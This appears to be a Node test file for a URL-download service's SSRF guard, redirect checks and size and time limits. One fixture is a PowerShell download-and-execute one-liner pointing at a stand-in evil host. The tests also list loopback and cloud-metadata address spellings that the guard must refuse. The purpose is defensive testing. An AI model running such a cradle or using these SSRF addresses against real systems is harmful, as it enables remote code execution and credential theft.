// URL download against a real HTTP server on 127.0.0.1: the SSRF guard refuses loopback unless the allow-list
// opens it, every redirect hop is checked again, and size and time limits stop a download cleanly.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import { after, before, describe, it } from 'node:test';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { execute } from '../../../src/services/url-download/index.js';
import { parseAllowList, refusal } from '../../../src/services/url-download/guard.js';
import { allTags, makeTask, runOn, tempDir } from '../../helpers/service.js';
import { checkOutput } from '../../../src/core/runtime/output.js';
import { uriFileContent } from '../../../src/core/submission/init.js';

const PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')\n";
const LOOPBACK = { allow_hosts: ['127.0.0.1'] };

describe('URL download', () => {
  let server: Server;
  let base = '';
  let dir: Awaited<ReturnType<typeof tempDir>>;
  before(async () => {
    dir = await tempDir('assay-urldl-');
    server = createServer((req, res) => {
      if (req.url === '/x.ps1') {
        res.writeHead(200, { 'content-type': 'text/plain', 'x-test': 'yes' });
        res.end(PAYLOAD);
      } else if (req.url === '/hop1') {
        res.writeHead(302, { location: '/hop2' }).end();
      } else if (req.url === '/hop2') {
        res.writeHead(301, { location: `${base}/x.ps1` }).end();
      } else if (req.url === '/meta') {
        res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
      } else if (req.url === '/loop') {
        res.writeHead(302, { location: '/loop' }).end();
      } else if (req.url === '/big') {
        res.writeHead(200, { 'content-type': 'application/octet-stream' });
        res.end(Buffer.alloc(200_000, 0x41));
      } else if (req.url === '/slow') {
        res.writeHead(200, { 'content-type': 'text/plain' });
        const t = setInterval(() => res.write('.'), 100);
        res.on('close', () => clearInterval(t));
      } else {
        res.writeHead(404).end('nope');
      }
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(async () => {
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
    await dir.cleanup();
  });

  const run = (url: string, config: Record<string, unknown> = {}) => runOn(execute, dir.dir, url, 'uri/http', uriFileContent(url), config);
  const titles = (out: { sections: Array<{ title: string }> }) => out.sections.map((s) => s.title);

  it('refuses loopback by default, as a section', async () => {
    const out = await run(`${base}/x.ps1`);
    assert.ok(titles(out).includes('Download refused: address not allowed'), titles(out).join(' | '));
    assert.equal(out.extracted, undefined);
    assert.match(String(out.sections.find((s) => s.title.startsWith('Download refused'))!.body), /loopback/);
  });

  it('fetches loopback when the allow-list names it, with status, headers and a DOWNLOADED child', async () => {
    const out = await run(`${base}/x.ps1`, LOOPBACK);
    assert.equal(out.extracted?.length, 1);
    const child = out.extracted![0]!;
    assert.equal(child.name, 'x.ps1');
    assert.equal(child.parentRelation, 'DOWNLOADED');
    assert.equal(await readFile(child.path, 'utf8'), PAYLOAD);
    const resp = out.sections.find((s) => s.title === 'Response: HTTP 200')!;
    assert.equal((resp.body as Record<string, unknown>)['x-test'], 'yes');
    assert.equal((resp.body as Record<string, unknown>).content_type, 'text/plain');
    assert.deepEqual(allTags(out, 'network.static.uri'), [`${base}/x.ps1`]);
    assert.deepEqual(allTags(out, 'network.static.ip'), ['127.0.0.1']);
    assert.ok(allTags(out, 'network.dynamic.uri').includes(`${base}/x.ps1`));
  });

  it('follows a redirect chain, listing every hop', async () => {
    const out = await run(`${base}/hop1`, LOOPBACK);
    const chain = out.sections.find((s) => s.title.startsWith('Redirect chain'))!;
    assert.equal(chain.title, 'Redirect chain (2 redirects)');
    const rows = chain.body as Array<Record<string, unknown>>;
    assert.deepEqual(rows.map((r) => [r.url, r.status]), [[`${base}/hop1`, 302], [`${base}/hop2`, 301], [`${base}/x.ps1`, 200]]);
    assert.equal(out.extracted?.[0]?.name, 'x.ps1');
  });

  it('checks each redirect: a hop to the metadata address is refused', async () => {
    const out = await run(`${base}/meta`, LOOPBACK);
    assert.equal(out.extracted, undefined);
    const refused = out.sections.find((s) => s.title === 'Download refused: address not allowed')!;
    assert.match(String(refused.body), /169\.254\.169\.254: cloud metadata address/);
    const rows = out.sections.find((s) => s.title.startsWith('Redirect chain'))!.body as Array<Record<string, unknown>>;
    assert.equal(rows[1]!.url, 'http://169.254.169.254/latest/meta-data/');
  });

  it('stops after the redirect limit', async () => {
    const out = await run(`${base}/loop`, { ...LOOPBACK, max_redirects: 3 });
    assert.ok(titles(out).includes('Download stopped: too many redirects'));
    assert.equal(out.extracted, undefined);
  });

  it('enforces the size limit', async () => {
    const out = await run(`${base}/big`, { ...LOOPBACK, max_size_mb: 0.01 });
    assert.ok(titles(out).includes('Download stopped: content too large'), titles(out).join(' | '));
    assert.equal(out.extracted, undefined);
  });

  it('stops a slow server at the time limit of the task signal', async () => {
    const url = `${base}/slow`;
    const w = await tempDir('assay-urldl-slow-');
    const input = `${w.dir}/in`;
    await (await import('node:fs/promises')).writeFile(input, uriFileContent(url));
    const ac = new AbortController();
    setTimeout(() => ac.abort(), 700);
    const t0 = Date.now();
    const out = await execute(await makeTask(input, url, 'uri/http', LOOPBACK), { filePath: input, workDir: w.dir, signal: ac.signal, log: () => {} });
    assert.ok(Date.now() - t0 < 5000);
    assert.ok((await checkOutput(JSON.parse(JSON.stringify(out)), w.dir)).ok);
    assert.ok(titles(out).includes('Download stopped: time limit reached'), titles(out).join(' | '));
    // The configured limit works the same way.
    const out2 = await run(url, { ...LOOPBACK, timeout_seconds: 0.5 });
    assert.ok(titles(out2).includes('Download stopped: time limit reached'));
    await w.cleanup();
  });

  it('keeps the configured time limit through garbage collections', { timeout: 15_000 }, async () => {
    // A limit held only weakly (a composite of AbortSignal.timeout) is lost when collected: the download hangs.
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const collect = setInterval(gc, 20);
    try {
      const out = await run(`${base}/slow`, { ...LOOPBACK, timeout_seconds: 0.5 });
      assert.ok(titles(out).includes('Download stopped: time limit reached'), titles(out).join(' | '));
    } finally {
      clearInterval(collect);
    }
  });

  it('refuses ftp with a clear section and reports DNS failures', async () => {
    const ftp = await run('ftp://ftp.example.com/file.bin');
    assert.ok(titles(ftp).includes('Download refused: unsupported scheme'));
    assert.match(String(ftp.sections.find((s) => s.title === 'Download refused: unsupported scheme')!.body), /ftp is refused/);
    const dns = await run('http://no-such-host.invalid/x');
    assert.ok(titles(dns).includes('Download failed: host not found'), titles(dns).join(' | '));
  });

  it('refuses internal addresses however they are spelled, and reports a bad allow-list entry', async () => {
    for (const url of ['http://[::1]:1/x', 'http://0x7f000001:1/x', 'http://2130706433:1/x', 'http://[::ffff:7f00:1]:1/x', 'http://metadata.google.internal/x', 'http://10.0.0.1/x']) {
      const out = await run(url);
      assert.ok(titles(out).includes('Download refused: address not allowed'), `${url}: ${titles(out).join(' | ')}`);
    }
    const bad = await run(`${base}/x.ps1`, { allow_networks: ['not-a-network'] });
    assert.ok(titles(bad).includes('Configuration problem'));
    assert.ok(titles(bad).includes('Download refused: address not allowed'));
    const net = await run(`${base}/x.ps1`, { allow_networks: ['127.0.0.0/8'] });
    assert.equal(net.extracted?.length, 1);
  });

  it('guard: ranges refused by default and opened by the allow-list', () => {
    const none = parseAllowList([], []).allow;
    for (const a of ['127.0.0.1', '10.1.2.3', '172.16.0.1', '192.168.1.1', '169.254.1.1', '100.64.0.1', '224.0.0.1', '0.0.0.0',
      '::1', '::', 'fe80::1', 'fc00::1', 'fd00:ec2::254', '::ffff:127.0.0.1', '169.254.169.254', 'ff02::1']) {
      assert.ok(refusal(a, a, none), `${a} must be refused`);
    }
    for (const a of ['93.184.215.14', '2606:4700::1111']) assert.equal(refusal(a, 'example.com', none), undefined);
    const lab = parseAllowList(['intranet.lab'], ['10.0.0.0/8']).allow;
    assert.equal(refusal('10.9.9.9', 'x', lab), undefined);
    assert.equal(refusal('192.168.0.1', 'intranet.lab', lab), undefined);
    assert.ok(refusal('192.168.0.1', 'other', lab));
  });
});
